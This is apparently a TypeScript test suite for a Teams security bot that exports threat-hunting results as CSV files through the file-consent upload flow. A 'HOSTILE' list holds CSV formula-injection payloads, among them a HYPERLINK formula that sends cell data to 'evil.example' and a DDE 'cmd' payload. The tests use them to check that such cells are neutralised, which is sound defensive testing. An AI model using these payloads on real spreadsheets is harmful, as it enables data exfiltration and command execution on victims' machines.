import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { projectRoot } from '../../src/app';
import { DEMO_BOT_ID } from '../../src/demo/demoConstants';
import type { HuntingColumn, HuntingResultRow } from '../../src/hunting/huntingTypes';
import { csvCell, csvFragments } from '../../src/hunting/huntResultCsv';
import type { FileConsentAttachment, FileUploadServer } from '../../src/simulator/channel/fileUploadSessions';
import { fileConsentInvokeValue, startFileUploadServer } from '../../src/simulator/channel/fileUploadSessions';
import { startChannelEmulator } from '../../src/simulator/channel/channelEmulatorServer';
import { BotClient } from '../support/botClient';
import { demoSeed, groupChat, persona, personalChat } from '../support/demoTenant';
import { teamsEnvelope } from '../support/teamsActivities';
import { testConfig } from '../support/testApp';
import type { HuntResultBot } from './huntResultHarness';
import { BoundCustomers, commandContextOf, startHuntResultBot, streamedAnswer } from './huntResultHarness';

type Activity = Record<string, unknown>;
type Person = ReturnType<typeof persona>;

const COLUMNS: HuntingColumn[] = [
  { name: 'Timestamp', type: 'DateTime' },
  { name: 'DeviceName', type: 'String' },
  { name: 'ProcessCommandLine', type: 'String' },
  { name: 'FileSize', type: 'Int64' },
  { name: 'LoggedOnUsers', type: 'Object' },
];

/** Cells an attacker controls on their own machine, each a way to break a CSV or run a formula in Excel. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,1)',
  '\tTabbed',
  '\rCarriage',
  'quote " and, comma',
  'line\nbreak',
  'ação — 漢字 🙂',
];

function row(i: number): HuntingResultRow {
  return {
    Timestamp: new Date(Date.UTC(2026, 11, 1, 0, 0, i)).toISOString(),
    DeviceName: HOSTILE[i % HOSTILE.length] ?? '',
    // Long command lines make the file span several upload ranges.
    ProcessCommandLine: `powershell.exe -enc ${'A'.repeat(600)} ${i}`,
    FileSize: i * 10,
    LoggedOnUsers: i % 2 === 0 ? [{ UserName: 'adele', DomainName: 'CONTOSO' }] : null,
  };
}

const ROWS = 6_000;

/** RFC 4180 parser for the assertions (quoted fields, doubled quotes, CRLF records). */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let field = '';
  let record: string[] = [];
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      record.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 1;
    } else field += c;
  }
  return records;
}

describe('hunt results as a CSV file (Teams file consent through POST /api/messages)', function () {
  this.timeout(120_000);
  let bot: HuntResultBot;
  let uploads: FileUploadServer;
  const adele = persona('Adele');
  const megan = persona('Megan');
  const customers = new BoundCustomers();

  before(async () => {
    bot = await startHuntResultBot(testConfig({ NOTIFY_POLL: 'off' }), undefined, customers);
    uploads = await startFileUploadServer();
  });
  after(async () => {
    await bot?.stop();
    await uploads?.close();
  });

  async function resultId(tenant?: { id: string; customerName: string }): Promise<string> {
    // Not spread: the context's Defender getters throw when read.
    const ctx = Object.assign(commandContextOf(adele), tenant === undefined ? {} : { tenant });
    const reply = await bot.huntResults.present(
      ctx,
      undefined,
      { huntName: 'processes-on-device', title: 'Processes', query: 'DeviceProcessEvents' },
      streamedAnswer(COLUMNS, function* () {
        for (let i = 1; i <= ROWS; i += 1) yield row(i);
      }),
      () => ({ elapsedMs: 10, callsThisMinute: 1, callsThisHour: 1 }),
    );
    assert.equal(reply.kind, 'card');
    const csv = (reply.card.actions as { verb?: string; data?: { resultId: string } }[]).find(
      (a) => a.verb === 'hunt.csv',
    );
    assert.ok(csv?.data);
    return csv.data.resultId;
  }

  /** Posts an activity as Teams does, with the bot's replies in the HTTP answer. */
  async function post(from: Person, conversation: typeof groupChat, fields: Activity): Promise<Activity[]> {
    const response = await new BotClient(bot.url, DEMO_BOT_ID).post({
      ...teamsEnvelope({
        botId: DEMO_BOT_ID,
        serviceUrl: 'http://127.0.0.1:1/_connector',
        from: { tenantId: demoSeed.tenant.id, user: from, id: from.id },
        conversation,
      }),
      deliveryMode: 'expectReplies',
      ...fields,
    });
    assert.equal(response.status, 200, JSON.stringify(response.body));
    // An invoke's own answer is buffered too (as `invokeResponse`): only the messages are the chat's.
    return (response.body as { activities: Activity[] }).activities.filter((a) => a.type === 'message');
  }

  async function consentCard(id: string): Promise<FileConsentAttachment & { contentType: string }> {
    const sent = await post(adele, personalChat(adele), {
      type: 'invoke',
      name: 'adaptiveCard/action',
      value: { action: { type: 'Action.Execute', verb: 'hunt.csv', data: { resultId: id } }, trigger: 'manual' },
    });
    const attachments = sent.flatMap(
      (a) => (a.attachments ?? []) as (FileConsentAttachment & { contentType: string })[],
    );
    const card = attachments.find((a) => a.contentType === 'application/vnd.microsoft.teams.card.file.consent');
    assert.ok(card, `no file consent card in ${JSON.stringify(sent).slice(0, 300)}`);
    return card;
  }

  it('is allowed to send files: the app manifest says supportsFiles (without it Teams never shows the consent card)', () => {
    const manifest = JSON.parse(fs.readFileSync(path.join(projectRoot(), 'appPackage', 'manifest.json'), 'utf8')) as {
      bots: { supportsFiles?: boolean }[];
    };
    assert.equal(manifest.bots[0]?.supportsFiles, true);
  });

  it('neutralises formulas and quotes cells as RFC 4180 says', () => {
    assert.equal(csvCell('=1+1'), "'=1+1");
    assert.equal(csvCell('+1'), "'+1");
    assert.equal(csvCell('-1'), "'-1");
    assert.equal(csvCell('@A1'), "'@A1");
    assert.equal(csvCell('\tx'), "'\tx");
    assert.equal(csvCell('\rx'), `"'\rx"`);
    assert.equal(csvCell('a "b", c'), '"a ""b"", c"');
    assert.equal(csvCell(-1), '-1', 'a number is a number, not a formula');
    assert.equal(csvCell(null), '');
    assert.equal(csvCell({ a: '=1' }), '"{""a"":""=1""}"');
  });

  it('cuts the file into ranges of exactly the fragment size but the last', async () => {
    const rows = (async function* () {
      for (let i = 1; i <= 50; i += 1) {
        await Promise.resolve();
        yield row(i);
      }
    })();
    const sizes: number[] = [];
    for await (const fragment of csvFragments(COLUMNS, rows, 4096)) sizes.push(fragment.length);
    assert.ok(sizes.length > 3);
    assert.ok(sizes.slice(0, -1).every((size) => size === 4096));
    assert.ok((sizes.at(-1) ?? 0) <= 4096);
  });

  it('offers the file in a personal chat and uploads every row on Allow, formulas neutralised', async () => {
    const id = await resultId();
    const card = await consentCard(id);
    assert.match(card.name ?? '', /^hunt-processes-on-device-\d{8}-\d{4}\.csv$/);
    const sent = await post(adele, personalChat(adele), {
      type: 'invoke',
      name: 'fileConsent/invoke',
      value: fileConsentInvokeValue(card, 'accept', uploads.sessions),
    });
    const info = sent
      .flatMap((a) => (a.attachments ?? []) as { contentType: string; content: { uniqueId: string } }[])
      .find((a) => a.contentType === 'application/vnd.microsoft.teams.card.file.info');
    assert.ok(info, `no file info card in ${JSON.stringify(sent).slice(0, 300)}`);
    const file = uploads.sessions.file(info.content.uniqueId);
    assert.ok(file, 'the upload session completed');
    assert.equal(file.length, card.content?.sizeInBytes, 'exactly the size the consent card announced');
    assert.ok(file.length > 320 * 1024 * 10, 'several upload ranges');
    assert.deepEqual([...file.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 byte-order mark');
    const records = parseCsv(file.subarray(3).toString('utf8'));
    assert.deepEqual(
      records[0],
      COLUMNS.map((c) => c.name),
    );
    assert.equal(records.length, ROWS + 1);
    for (const [index, record] of records.slice(1, 1 + HOSTILE.length).entries()) {
      const original = row(index + 1);
      const device = String(original.DeviceName);
      assert.equal(record[1], /^[=+\-@\t\r]/.test(device) ? `'${device}` : device);
      assert.equal(record[3], String(original.FileSize));
    }
    assert.equal(records[2]?.[4], '[{"UserName":"adele","DomainName":"CONTOSO"}]');
    assert.equal(records.at(-1)?.[3], String(ROWS * 10));
  });

  it('says the file could not be uploaded when the session refuses it, and saves nothing', async () => {
    const card = await consentCard(await resultId());
    const value = fileConsentInvokeValue(card, 'accept', uploads.sessions);
    const uniqueId = (value.uploadInfo as { uniqueId: string }).uniqueId;
    uploads.sessions.expire(uniqueId);
    const sent = await post(adele, personalChat(adele), { type: 'invoke', name: 'fileConsent/invoke', value });
    assert.deepEqual(
      sent.map((a) => a.text),
      ['The CSV file could not be uploaded to your OneDrive; nothing was saved. Choose Download CSV to try again.'],
    );
    assert.equal(uploads.sessions.file(uniqueId), undefined);
    assert.equal(uploads.sessions.refusals(uniqueId), 1, 'one range tried, none retried');
  });

  it('says nothing was sent when the person declines', async () => {
    const card = await consentCard(await resultId());
    const sent = await post(adele, personalChat(adele), {
      type: 'invoke',
      name: 'fileConsent/invoke',
      value: fileConsentInvokeValue(card, 'decline', uploads.sessions),
    });
    assert.deepEqual(
      sent.map((a) => a.text),
      ['The CSV file was not sent.'],
    );
  });

  it("uploads nothing for someone answering another person's offer, and audits it", async () => {
    const card = await consentCard(await resultId());
    const value = fileConsentInvokeValue(card, 'accept', uploads.sessions);
    const sent = await post(megan, personalChat(megan), { type: 'invoke', name: 'fileConsent/invoke', value });
    assert.match(String(sent[0]?.text), /These results belong to the person who ran the hunt/);
    const uniqueId = (value.uploadInfo as { uniqueId: string }).uniqueId;
    assert.equal(uploads.sessions.file(uniqueId), undefined);
    const refusals = (await bot.audit.recent({ limit: 1000 })).filter(
      (e) => e.type === 'request.refused' && typeof e.detail === 'object' && e.detail.verb === 'hunt.csvUpload',
    );
    assert.equal(refusals.length, 1);
  });

  it('uploads nothing of a customer no longer served in the chat, and audits it', async () => {
    const contoso = {
      tenantId: 'c0c0c0c0-0000-4000-8000-00000000c5c5',
      name: 'Contoso',
      status: 'active' as const,
      requestedBy: { aadObjectId: adele.aadObjectId, userPrincipalName: adele.userPrincipalName, displayName: 'A' },
      requestedAt: '2026-12-01T00:00:00Z',
    };
    const chat = personalChat(adele);
    customers.bind(chat.id, contoso);
    let value: Record<string, unknown>;
    try {
      const card = await consentCard(await resultId({ id: contoso.tenantId, customerName: contoso.name }));
      value = fileConsentInvokeValue(card, 'accept', uploads.sessions);
    } finally {
      customers.unbind(chat.id);
    }
    // Allow clicked after Contoso was unbound: the stored rows are that customer's, the chat no longer serves it.
    const sent = await post(adele, chat, { type: 'invoke', name: 'fileConsent/invoke', value });
    assert.deepEqual(
      sent.map((a) => a.text),
      ['These results are about a customer this chat no longer serves; the CSV file was not sent.'],
    );
    const uniqueId = (value.uploadInfo as { uniqueId: string }).uniqueId;
    assert.equal(uploads.sessions.file(uniqueId), undefined);
    const refusals = (await bot.audit.recent({ limit: 1000 })).filter(
      (e) =>
        e.type === 'request.refused' &&
        typeof e.detail === 'object' &&
        e.detail.verb === 'hunt.csvUpload' &&
        e.detail.reason === 'huntResultTenantNotServedHere',
    );
    assert.equal(refusals.length, 1);
  });

  it('answers in a channel that the file is offered in a personal chat', async () => {
    const id = await resultId();
    const answer = await new BotClient(bot.url, DEMO_BOT_ID).execute('hunt.csv', { resultId: id }, adele, groupChat);
    assert.match(String(answer.value), /CSV download is offered in a personal chat with the bot/);
  });

  it('the channel emulator serves upload sessions beside the Bot Connector', async () => {
    const channel = await startChannelEmulator({
      botAppId: DEMO_BOT_ID,
      entraKeys: { getKeySet: () => ({ keys: [] }) },
    });
    try {
      const info = channel.uploads.open('z.csv', 4);
      assert.ok(info.uploadUrl.startsWith(channel.url));
      const response = await fetch(info.uploadUrl, {
        method: 'PUT',
        headers: { 'content-range': 'bytes 0-3/4' },
        body: 'a,b\n',
      });
      assert.equal(response.status, 201);
      assert.equal(channel.uploads.file(info.uniqueId)?.toString('utf8'), 'a,b\n');
    } finally {
      await channel.close();
    }
  });

  it('the upload session refuses a wrong total size, a range out of order and an expired session', async () => {
    const info = uploads.sessions.open('x.csv', 10);
    const put = (range: string, body: string) =>
      fetch(info.uploadUrl, { method: 'PUT', headers: { 'content-range': range }, body });
    assert.equal((await put('bytes 0-4/11', '12345')).status, 400);
    assert.equal((await put('bytes 5-9/10', '12345')).status, 416);
    assert.equal((await put('bytes 0-9/10', '1234567890')).status, 201);
    const late = uploads.sessions.open('y.csv', 10);
    uploads.sessions.expire(late.uniqueId);
    const expired = await fetch(late.uploadUrl, {
      method: 'PUT',
      headers: { 'content-range': 'bytes 0-9/10' },
      body: '1234567890',
    });
    assert.equal(expired.status, 404);
  });
});
